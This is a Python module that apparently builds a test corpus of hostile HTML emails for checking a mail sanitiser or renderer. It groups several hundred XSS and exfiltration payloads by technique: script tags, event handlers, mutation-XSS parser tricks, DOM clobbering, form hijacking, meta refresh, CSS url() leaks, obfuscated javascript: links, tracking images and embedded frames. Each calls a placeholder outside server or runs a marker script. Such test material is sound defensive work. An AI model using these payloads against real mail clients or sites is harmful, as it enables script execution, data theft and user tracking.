"""Mail that wants more than to be read, by technique. `@E` is a server elsewhere, `@J` a script that says it ran."""

RAN = "window.top.postMessage('ran','*');new Image().src='@E/script'"

_SCRIPTS = """
<script>@J</script>
<script src=@E/src.js></script>
<SCRIPT>@J</SCRIPT>
<scr<script>ipt>@J</scr</script>ipt>
<script type=module>@J</script>
<script>@J//
<script/x>@J</script>
<noscript><p title="</noscript><script>@J</script>">
<!--><script>@J</script>-->
<!--[if gte IE 4]><script>@J</script><![endif]-->
<![CDATA[<script>@J</script>]]>
<plaintext><script>@J</script>
<xmp><script>@J</script></xmp><script>@J</script>
<textarea></textarea><script>@J</script>
<title></title><script>@J</script>
<style></style><script>@J</script>
<template><script>@J</script></template>
<select><script>@J</script></select>
<div><table><script>@J</script></table></div>
"""
_HANDLERS = """
<img src=x onerror="@J">
<img src=x oNeRrOr="@J">
<img/src=x/onerror="@J">
<img src=x onerror=&#x77;indow.top.postMessage('ran','*')>
<img src="x` `<script>@J</script>"` `>
<body onload="@J">
<body onpageshow="@J">
<svg onload="@J"></svg>
<svg/onload="@J">
<input autofocus onfocus="@J">
<select autofocus onfocus="@J"><option>x</select>
<textarea autofocus onfocus="@J"></textarea>
<details open ontoggle="@J"><summary>x</summary></details>
<video src=x onerror="@J"></video>
<video><source onerror="@J"></video>
<audio src=x onerror="@J"></audio>
<marquee onstart="@J">x</marquee>
<style>@keyframes a{from{top:0}}</style><p style="animation:a 1s" onanimationstart="@J">x</p>
<a href=# onclick="@J">press</a>
<p onmouseover="@J" style="font-size:200px">x</p>
<button onclick="@J">press</button>
<div tabindex=1 autofocus onfocusin="@J">x</div>
<object data=x onerror="@J"></object>
<iframe onload="@J"></iframe>
<table onload="@J" background=x><tr><td onclick="@J">x</table>
<p contenteditable autofocus onbeforeinput="@J" onfocus="@J">x</p>
"""
_MUTATION = """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@J&gt;">
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=@J src>">
<svg><style><img title="</style><img src=x onerror='@J'>"></style></svg>
<svg></p><style><a id="</style><img src=1 onerror='@J'>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror='@J'>
<noembed><img title="</noembed><img src onerror='@J'>"></noembed>
<svg><script>@J</script></svg>
<svg><script href=@E/svg.js></script></svg>
<svg><a xlink:href="javascript:@J"><text y=20>press</text></a></svg>
<svg><animate onbegin="@J" attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to="@J"></svg>
<svg><foreignObject><iframe srcdoc="<script>@J</script>"></iframe></foreignObject></svg>
<svg><image href="@E/svgimage"/></svg>
<svg><use href="@E/use.svg#x"/></svg>
<svg><filter id=f><feImage href="@E/feimage"/></filter><rect width=9 height=9 filter=url(#f) /></svg>
<svg><desc><![CDATA[</desc><script>@J</script>]]></svg>
<math href="javascript:@J">press</math>
<math><maction actiontype="statusline#@E" xlink:href="javascript:@J">press</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror="@J"></annotation-xml></math>
<table><math><select><mglyph><style><img src=x onerror="@J">
<style><!--</style><img src=x onerror="@J">--></style>
<a title="<style>"><img src=x onerror="@J"></a>
<p id="</p><img src=x onerror=@J>">x</p>
<svg><title><style><a id="</style><img src=x onerror='@J'>">
<select><template><svg></template><img src=x onerror="@J"></select>
"""
_CLOBBERING = """
<img name=getElementById><img name=body><img id=location>
<form id=document><input name=cookie><input name=title></form>
<a id=top href=@E/clobber><a id=parent href=@E/clobber>
<iframe name=self srcdoc="<script>@J</script>"></iframe>
<form name=forms><input name=action value=@E></form>
<p id=matter class=rail>x</p><p id=decide data-command=approve>x</p>
<span data-image=0>[image]</span>
<div id=main hx-get=@E/hx hx-trigger=load data-hx-get=@E/hx>x</div>
"""
_FORMS = """
<form action=@E/form><input name=q value=secret><button>press</button></form>
<form method=post action=@E/form><input type=submit value=press></form>
<form><button formaction=@E/formaction>press</button></form>
<form action="javascript:@J"><button>press</button></form>
<form id=f action=@E/f></form><button form=f>press</button>
<input type=image src=@E/input.png>
<isindex action="javascript:@J" type=image>
<form action=@E/keygen target=_top><input type=submit value=press></form>
<button popovertarget=p>press</button><div popover id=p style="position:fixed;inset:0;background:red">x</div>
<dialog open style="position:fixed;inset:0;background:red">x</dialog>
"""
_DOCUMENT = """
<base href=@E/><img src=rel.png><a href=rel>press</a>
<base target=_top><a href=@E/top>press</a>
<meta http-equiv=refresh content="0;url=@E/refresh">
<meta http-equiv=refresh content="0;url=javascript:@J">
<meta http-equiv=refresh content="0;url=data:text/html,<script>@J</script>">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>@J</script>
<meta http-equiv=set-cookie content="a=b">
<meta charset=utf-7>+ADw-script+AD4-@J+ADw-/script+AD4-
<link rel=stylesheet href=@E/sheet.css>
<link rel=icon href=@E/icon.png>
<link rel=prefetch href=@E/prefetch>
<link rel=preload as=image href=@E/preload>
<link rel=modulepreload href=@E/module.js>
<link rel=prerender href=@E/prerender>
<link rel=preconnect href=@E>
<link rel=manifest href=@E/manifest.json>
<link rel=import href=@E/import.html>
<link rel="dns-prefetch stylesheet" href=@E/both.css>
<html manifest=@E/appcache>
<head><script>@J</script></head><body><p>x
<frameset onload="@J"><frame src=@E/frame></frameset>
"""
_CSS = """
<style>@import url(@E/import.css);</style>
<style>@import "@E/import2.css";</style>
<style>@font-face{font-family:x;src:url(@E/font.woff)} p{font-family:x}</style><p>x</p>
<style>p{background:url(@E/background)}</style><p>x</p>
<style>p{background:image-set("@E/set" 1x)}</style><p>x</p>
<style>p::before{content:url(@E/content)}</style><p>x</p>
<style>ul{list-style-image:url(@E/list)}</style><ul><li>x</ul>
<style>p{cursor:url(@E/cursor),auto}</style><p>x</p>
<style>p{mask-image:url(@E/mask);-webkit-mask:url(@E/mask)}</style><p>x</p>
<style>p{border-image:url(@E/border) 1}</style><p style="border:9px solid">x</p>
<style>p{filter:url(@E/filter#x)}</style><p>x</p>
<style>input[value^=s]{background:url(@E/leak)}</style><input value=secret>
<style>@media screen{p{background:url(@E/media)}}</style><p>x</p>
<style>@namespace url(@E/namespace); p{background:url(@E/ns)}</style><p>x</p>
<p style="background:url(@E/inline)">x</p>
<p style="background:u\\72l(@E/escaped)">x</p>
<p style="background-image:&#117;rl(@E/entity)">x</p>
<p style="background:url/**/(@E/comment)">x</p>
<p style="--x:url(@E/var);background:var(--x)">x</p>
<p style="width:expression(@J);behavior:url(@E/htc);-moz-binding:url(@E/xbl)">x</p>
<p style="color:red;}</style><script>@J</script>">x</p>
<table background=@E/table><tr><td background=@E/td>x</table>
<body background=@E/body>x
<p style="position:fixed;top:-5000px;left:-5000px;width:20000px;height:20000px;background:red;z-index:999999">x</p>
<p style="position:absolute;inset:-5000px;background:red;transform:scale(99)">x</p>
<p style="margin:-5000px;padding:9000px;background:red">x</p>
<p style="box-shadow:0 0 0 9000px red;outline:9000px solid red">x</p>
"""
_LINKS = """
<a href="javascript:@J">press</a>
<a href=" javascript:@J">press</a>
<a href="\u00a0javascript:@J">press</a>
<a href="\u2028javascript:@J">press</a>
<a href="\u3000javascript:@J">press</a>
<a href="\ufeffjavascript:@J">press</a>
<a href="\u0001javascript:@J">press</a>
<a href="java&#9;script:@J">press</a>
<a href="java&#10;script:@J">press</a>
<a href="JaVaScRiPt:@J">press</a>
<a href="javascript&colon;@J">press</a>
<a href="&#106;avascript:@J">press</a>
<a href="javascript:alert`1`//@E">press</a>
<a href="vbscript:@J">press</a>
<a href="data:text/html,<script>@J</script>">press</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" target=_blank>press</a>
<a href=@E/link target=_top>press</a>
<a href=@E/link target=_parent>press</a>
<a href=@E/link target=_blank>press</a>
<a href=@E/link>press</a>
<a href=//@H/relative>press</a>
<a href=@E/file download>press</a>
<a href=@E/x ping=@E/ping>press</a>
<a href="view-source:@E">press</a>
<a xlink:href="javascript:@J" href="javascript:@J">press</a>
<map name=m><area shape=default href="javascript:@J" coords=0,0,99,99></map><img usemap=#m width=99 height=99 alt=press>
<a href="/queue/" target=_top>press</a>
<a href="mailto:x@evil.example?bcc=y@evil.example">press</a>
"""
_MEDIA = """
<img src=@E/pixel.gif>
<img src="//@H/relative.gif">
<img src="\\\\@H/backslash.gif">
<img srcset="@E/one 1x, @E/two 2x">
<img src=x srcset=@E/set sizes=1px>
<img lowsrc=@E/low dynsrc=@E/dyn>
<img src=x longdesc=@E/long usemap=@E>
<picture><source srcset=@E/picture><img src=x></picture>
<video poster=@E/poster src=@E/video autoplay></video>
<video autoplay><source src=@E/source><track src=@E/track default></video>
<audio src=@E/audio autoplay></audio>
<bgsound src=@E/sound>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@J'/>">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='@E/inner'/></svg>">
<img src="data:text/html,<script>@J</script>">
<img src="blob:@E/x">
<img src="file:///etc/passwd"><img src="ftp://@H/x">
<img src="data:remote,@E/remote"><img src="data:remote,http%3A%2F%2F@H%2Fquoted">
<image src=@E/image>
<input type=image src=@E/inputimage>
"""
_EMBEDDED = """
<iframe src=@E/iframe></iframe>
<iframe src="javascript:@J"></iframe>
<iframe srcdoc="<script>@J</script>"></iframe>
<iframe srcdoc="<img src=@E/srcdoc>"></iframe>
<iframe src="data:text/html,<script>@J</script>"></iframe>
<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" src=@E/sandbox></iframe>
<iframe src=/queue/></iframe>
<object data=@E/object></object>
<object data="data:text/html,<script>@J</script>"></object>
<object type=text/html data="javascript:@J"></object>
<object><param name=src value=@E/param><embed src=@E/embed></object>
<embed src=@E/embed>
<embed src="javascript:@J" type=text/html>
<applet code=x codebase=@E/applet archive=@E/jar></applet>
<portal src=@E/portal></portal>
<fencedframe src=@E/fenced></fencedframe>
<frame src=@E/frame>
<layer src=@E/layer></layer>
<ilayer src=@E/ilayer></ilayer>
<xml src=@E/xml id=x></xml>
<slot name=x></slot><x-element is=x onload="@J"></x-element>
<div><template shadowrootmode=open><style>:host{background:url(@E/shadow)}</style><img src=@E/shadow2></template></div>
"""
TECHNIQUES = {
    "script": _SCRIPTS,
    "handler": _HANDLERS,
    "mutation": _MUTATION,
    "clobbering": _CLOBBERING,
    "form": _FORMS,
    "document": _DOCUMENT,
    "css": _CSS,
    "link": _LINKS,
    "media": _MEDIA,
    "embedded": _EMBEDDED,
}


def corpus(elsewhere: str) -> list[tuple[str, str]]:
    """Every mail with its name; `elsewhere` is the address of a server that nothing may reach."""
    host = elsewhere.removeprefix("http://")
    return [
        (f"{name}-{number}", _aimed(line, elsewhere, host))
        for name, lines in TECHNIQUES.items()
        for number, line in enumerate(lines.strip("\n").split("\n"))
    ]


def _aimed(line: str, elsewhere: str, host: str) -> str:
    return line.replace("@J", RAN).replace("@E", elsewhere).replace("@H", host)
